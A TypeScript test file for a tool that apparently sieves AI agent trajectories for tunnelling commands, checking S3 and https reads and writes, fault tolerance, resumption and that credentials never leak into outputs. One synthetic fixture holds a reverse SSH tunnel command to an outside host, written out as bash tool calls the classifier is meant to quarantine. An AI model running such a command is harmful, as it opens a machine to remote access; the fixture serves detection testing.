import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import {
  CreateBucketCommand,
  GetObjectCommand,
  ListObjectsV2Command,
  PutObjectCommand,
  type S3Client,
} from '@aws-sdk/client-s3';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { writeEpisodes } from '../../scripts/generate/write-episodes.ts';
import { packagePath } from '../../src/package-path.ts';
import { eve, minutes, noon, rollRow } from '../correlate/world.ts';
import { episodes } from '../support/episodes.ts';
import { seededRandom } from '../support/random.ts';
import {
  clientOf,
  motoPython,
  type RunningServer,
  startS3Server,
  testCredentials,
} from '../support/s3-server.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { hashesOf, type Result, startTrajsieveAsync } from '../support/trajsieve.ts';
import { type Fault, forwardTo, type LocalServer, serveFiles, startServer } from '../support/web-server.ts';

const options = ['--classifiers', packagePath('classifiers/tunnels'), '--workers', '2', '-q'];

async function writeInputs(folder: string): Promise<string> {
  const inputs = join(folder, 'in');
  mkdirSync(inputs);
  await writeEpisodes(join(inputs, 'a.parquet'), episodes(60, 20_000, 1), { rowGroup: 25 });
  await writeEpisodes(join(inputs, 'b-test.parquet'), episodes(40, 20_000, 2), {
    rowGroup: 40,
    codec: 'SNAPPY',
  });
  await writeEpisodes(join(inputs, 'c.parquet'), episodes(50, 20_000, 3), { rowGroup: 50 });
  return inputs;
}

/** Hashes of the shards alone: what else a run writes names its inputs. */
function shardsOf(folder: string): Record<string, string> {
  return Object.fromEntries(
    Object.entries(hashesOf(folder)).filter(([path]) => /^(data|quarantine)/.test(path)),
  );
}

describe.skipIf(motoPython === undefined)('a run with S3', { timeout: 300_000 }, () => {
  let server: RunningServer;
  let proxy: LocalServer;
  let client: S3Client;
  let env: Record<string, string>;

  beforeAll(async () => {
    server = await startS3Server();
    proxy = await startServer(forwardTo(server.url));
    env = { ...testCredentials, AWS_ENDPOINT_URL_S3: proxy.url };
    client = clientOf(server);
    for (const Bucket of ['inputs', 'results']) await client.send(new CreateBucketCommand({ Bucket }));
  });
  afterEach(() => {
    proxy.fault = () => undefined;
    proxy.requests.length = 0;
  });
  afterAll(async () => {
    await proxy?.stop();
    await server?.stop();
  });

  async function uploadFolder(folder: string, prefix: string): Promise<void> {
    for (const name of readdirSync(folder)) {
      const Body = readFileSync(join(folder, name));
      await client.send(new PutObjectCommand({ Bucket: 'inputs', Key: `${prefix}${name}`, Body }));
    }
  }
  /** Downloads all that a run left, to look at it as at a local one. */
  async function download(prefix: string): Promise<string> {
    const folder = temporaryFolder();
    for (const Key of await keysOf(prefix)) {
      const { Body } = await client.send(new GetObjectCommand({ Bucket: 'results', Key }));
      const target = join(folder, Key.slice(prefix.length));
      mkdirSync(join(target, '..'), { recursive: true });
      writeFileSync(target, await Body!.transformToByteArray());
    }
    return folder;
  }
  async function keysOf(prefix: string): Promise<string[]> {
    const { Contents = [] } = await client.send(
      new ListObjectsV2Command({ Bucket: 'results', Prefix: prefix }),
    );
    return Contents.map(({ Key }) => Key!);
  }
  const run = (inputs: string, out: string): Promise<Result> =>
    startTrajsieveAsync(['run', inputs, '--out', out, ...options], env).ended;

  /** Every ninth request goes wrong, in one way after another. */
  function disturb(): void {
    const kinds: Fault[] = [
      { type: 'status', status: 500 },
      { type: 'reset' },
      { type: 'short' },
      { type: 'status', status: 503, headers: { 'retry-after': '0' } },
    ];
    let count = 0;
    proxy.fault = () => (++count % 9 === 0 ? kinds[(count / 9) % kinds.length] : undefined);
  }

  test('reads from a prefix and gives the bytes that local copies give, faults or not', async () => {
    const folder = temporaryFolder();
    const inputs = await writeInputs(folder);
    await uploadFolder(inputs, 'same/');
    expect((await run(inputs, join(folder, 'local'))).status).toBe(0);
    const result = await run('s3://inputs/same/', join(folder, 'remote'));
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(shardsOf(join(folder, 'remote'))).toEqual(shardsOf(join(folder, 'local')));

    disturb();
    expect((await run('s3://inputs/same/*.parquet', join(folder, 'disturbed'))).status).toBe(0);
    expect(hashesOf(join(folder, 'disturbed'))).toEqual(hashesOf(join(folder, 'remote')));
  });

  test('reads JSON lines, plain and compressed, as from local copies', async () => {
    const folder = temporaryFolder();
    const inputs = join(folder, 'in');
    mkdirSync(inputs);
    const lines = Array.from({ length: 300 }, (_, id) => {
      const command = id % 50 === 7 ? 'ssh -R 2222:localhost:22 me@203.0.113.9' : `echo ${id}`;
      const call = {
        id: 'c',
        type: 'function',
        function: { name: 'bash', arguments: JSON.stringify({ command }) },
      };
      return `${JSON.stringify({
        messages: [
          { role: 'user', content: 'x'.repeat(5000) },
          { role: 'assistant', tool_calls: [call] },
        ],
      })}\n`;
    }).join('');
    writeFileSync(join(inputs, 'a.jsonl'), lines);
    writeFileSync(join(inputs, 'b.jsonl.gz'), gzipSync(lines));
    await uploadFolder(inputs, 'lines/');
    expect((await run(inputs, join(folder, 'local'))).status).toBe(0);
    expect((await run('s3://inputs/lines', join(folder, 'remote'))).status).toBe(0);
    const report = (name: string) => JSON.parse(readFileSync(join(folder, name, 'report.json'), 'utf8'));
    expect(report('remote').rows).toEqual(report('local').rows);
    expect(report('remote').rows).toMatchObject({ in: 600, unreadable: 0, quarantined: 12 });
  });

  test('writes to a prefix what it writes to a folder, and shows no credentials anywhere', async () => {
    const folder = temporaryFolder();
    const inputs = await writeInputs(folder);
    expect((await run(inputs, join(folder, 'local'))).status).toBe(0);
    disturb();
    const result = await run(inputs, 's3://results/whole');
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    const written = await download('whole/');
    expect(hashesOf(written)).toEqual(hashesOf(join(folder, 'local')));
    for (const name of Object.keys(hashesOf(written))) {
      const bytes = readFileSync(join(written, name));
      for (const secret of Object.values(testCredentials).slice(0, 3))
        expect(bytes.includes(secret)).toBe(false);
    }
    const verified = await startTrajsieveAsync(['verify', 's3://results/whole'], env).ended;
    expect(verified.stdout).toMatch(/^verified: 150 rows in/);
    // the ledger's entry comes when all files of its unit are there
    const puts = proxy.requests
      .filter(({ method }) => method === 'PUT')
      .map(({ url }) => new URL(url, 'http://x').pathname);
    const entries = puts.filter((path) => path.includes('/ledger/'));
    expect(entries.length).toBeGreaterThanOrEqual(3);
    expect(puts.findIndex((path) => path.includes('/ledger/'))).toBeGreaterThan(
      puts.findIndex((path) => path.includes('/data/')),
    );
    expect(puts.at(-1)).toBe('/results/whole/report.json');
  });

  test('brings what came of alerts, which are read from S3 as well', async () => {
    const folder = temporaryFolder();
    const inputs = join(folder, 'in');
    mkdirSync(inputs);
    const times = { start: noon, end: noon + 20 * minutes };
    const rows = ['10.0.0.1', '10.0.0.2'].map((host) => rollRow({ id: host, ...times, host }));
    writeFileSync(join(inputs, 'a.jsonl'), rows.map((row) => `${JSON.stringify(row)}\n`).join(''));
    writeFileSync(join(inputs, 'eve.json'), eve({ time: noon + 5 * minutes, from: '10.0.0.2' }));
    await uploadFolder(inputs, 'watched/');
    const words = (out: string) => [
      ...['run', 's3://inputs/watched/a.jsonl', '--out', out],
      ...['--alerts', 's3://inputs/watched/eve.json', ...options],
    ];
    const local = join(folder, 'local');
    expect(await startTrajsieveAsync(words(local), env).ended).toMatchObject({ status: 0, stderr: '' });
    const there = await startTrajsieveAsync(words('s3://results/watched'), env).ended;
    expect(there).toMatchObject({ status: 0, stderr: '' });
    const written = hashesOf(await download('watched/'));
    expect(written).toEqual(
      Object.fromEntries(Object.entries(hashesOf(local)).filter(([path]) => !path.includes('/telemetry-'))),
    );
    expect(Object.keys(written)).toContain('correlation/matches.parquet');
  });

  test('goes on from what is there when it is killed, and ends with the same bytes', async () => {
    const folder = temporaryFolder();
    const inputs = await writeInputs(folder);
    const started = Date.now();
    expect((await run(inputs, join(folder, 'local'))).status).toBe(0);
    const duration = Date.now() - started;
    const random = seededRandom(7);
    for (let round = 0; round < 2; round++) {
      const out = `s3://results/killed-${round}`;
      const { child, ended } = startTrajsieveAsync(['run', inputs, '--out', out, ...options], env);
      await setTimeout(duration * (0.3 + random()));
      child.kill('SIGKILL');
      await ended;
      expect((await run(inputs, out)).status).toBe(0);
      expect(hashesOf(await download(`killed-${round}/`))).toEqual(hashesOf(join(folder, 'local')));
    }
  });

  test('does not begin where something else is', async () => {
    const folder = temporaryFolder();
    const inputs = await writeInputs(folder);
    await client.send(new PutObjectCommand({ Bucket: 'results', Key: 'taken/mine.txt', Body: 'mine' }));
    const result = await run(inputs, 's3://results/taken');
    expect(result.status).not.toBe(0);
    expect(result.stderr).toMatch(/holds something that is no run: "mine.txt"/);
    expect(await keysOf('taken/')).toEqual(['taken/mine.txt']);
  });

  test('ends with an error, and may be taken up again, when the server is gone', async () => {
    const folder = temporaryFolder();
    const inputs = await writeInputs(folder);
    proxy.fault = ({ method, url }) =>
      method === 'PUT' && url!.includes('/data/') ? { type: 'status', status: 403 } : undefined;
    const failed = await run(inputs, 's3://results/gone');
    expect(failed.status).not.toBe(0);
    expect(failed.stderr).toMatch(/server answered .*403/);
    expect((await keysOf('gone/')).filter((key) => key.includes('/ledger/'))).toEqual([]);
    proxy.fault = () => undefined;
    expect(await run(inputs, 's3://results/gone')).toMatchObject({ stderr: '', status: 0 });
    expect(await keysOf('gone/')).toContain('gone/report.json');
  });
});

test('a run over https:// reads each byte about once, and writes no signature', async () => {
  const folder = temporaryFolder();
  const file = join(folder, 'signed.parquet');
  await writeEpisodes(file, episodes(60, 20_000, 1), { rowGroup: 25 });
  const bytes = readFileSync(file);
  const server = await startServer(serveFiles(new Map([['/d/signed.parquet', { bytes, etag: '"1"' }]])));
  try {
    const out = join(folder, 'out');
    const address = `${server.url}/d/signed.parquet?X-Amz-Signature=sig-nature`.replace(
      '//',
      '//me:pass-word@',
    );
    const result = await startTrajsieveAsync(['run', address, '--out', out, ...options], {}).ended;
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(
      (await startTrajsieveAsync(['run', file, '--out', join(folder, 'local'), ...options], {}).ended).status,
    ).toBe(0);
    expect(shardsOf(out)).toEqual(shardsOf(join(folder, 'local')));
    for (const name of Object.keys(hashesOf(out))) {
      const text = readFileSync(join(out, name));
      expect(text.includes('sig-nature') || text.includes('pass-word')).toBe(false);
    }
    expect(JSON.parse(readFileSync(join(out, 'plan.json'), 'utf8')).files[0].file).toBe(
      `${server.url}/d/signed.parquet`,
    );
    const asked = server.requests.reduce((sum, { headers }) => {
      const [, start, end] = /^bytes=(\d+)-(\d+)$/.exec(headers.range ?? '')!;
      return sum + Math.min(Number(end) + 1, bytes.length) - Number(start);
    }, 0);
    // once to plan, in part, and once to do
    expect(asked).toBeLessThan(2.2 * bytes.length + (1 << 20));
  } finally {
    await server.stop();
  }
});
